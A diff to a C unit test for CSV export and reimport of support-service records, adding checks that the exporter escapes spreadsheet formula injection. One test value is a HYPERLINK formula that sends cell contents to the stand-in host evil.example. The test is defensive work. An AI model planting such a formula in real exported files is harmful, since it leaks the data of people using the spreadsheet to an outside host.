@@ -267,6 +267,11 @@ static void test_export_roundtrip(void **state)
 	struct tg_resource rs[2] = {b.rows[0].res, b.rows[1].res};
 	rs[1].is_confidential = 1;
 	rs[1].front_door = "港北区こども家庭支援課";
+	/* text a spreadsheet would run as a formula (CSV injection) */
+	const char *evil = "=HYPERLINK(\"https://evil.example/?a=\"&G3&H3,\"詳細\")";
+	rs[0].name = evil;
+	rs[0].phone = "+81-45-123-4567";
+	rs[0].schedule_note = "@SUM(1+1)";
 	struct tg_buf out = TG_BUF_INIT;
 	assert_int_equal(tg_export_csv_begin(&out), TG_OK);
 	assert_int_equal(tg_export_csv_rows(&out, rs, 2, NULL, NULL), TG_OK);
@@ -274,6 +279,15 @@ static void test_export_roundtrip(void **state)
 	assert_non_null(strstr(out.data, "\r\n"));
 	assert_null(strstr(out.data, "日吉2-3-4"));
 	assert_null(strstr(out.data, "045-234-5678"));
+	/* a hidden row's city is part of its address: the third line, 3rd cell */
+	const char *l3 = strstr(strstr(out.data, "\r\n") + 2, "\r\n") + 2;
+	const char *c3 = strchr(strchr(l3, ',') + 1, ',') + 1;
+	assert_int_equal(*c3, ',');
+	assert_non_null(strstr(out.data, ",\"'=HYPERLINK(\"\"https://evil.example/"));
+	assert_non_null(strstr(out.data, ",'+81-45-123-4567,"));
+	assert_non_null(strstr(out.data, ",'@SUM(1+1),"));
+	assert_null(strstr(out.data, ",=HYPERLINK"));
+	assert_null(strstr(out.data, ",\"=HYPERLINK"));
 	tg_import_batch_init(&b2, &a);
 	assert_int_equal(tg_jpf_parse(out.data + 3, out.len - 3, &opts, &b2), TG_OK);
 	assert_int_equal(b2.n_errors, 0);
@@ -283,7 +297,9 @@ static void test_export_roundtrip(void **state)
 	assert_string_equal(x->source_id, y->source_id);
 	assert_string_equal(x->type_code, y->type_code);
 	assert_string_equal(x->address_line, y->address_line);
-	assert_string_equal(x->schedule_note, y->schedule_note);
+	assert_string_equal(x->schedule_note, "@SUM(1+1)"); /* the apostrophe is taken off again */
+	assert_string_equal(x->name, evil);
+	assert_string_equal(x->phone, "+81-45-123-4567");
 	assert_int_equal(x->n_hours, y->n_hours);
 	assert_int_equal(x->age_min_months, y->age_min_months);
 	assert_int_equal(x->age_max_months, y->age_max_months);
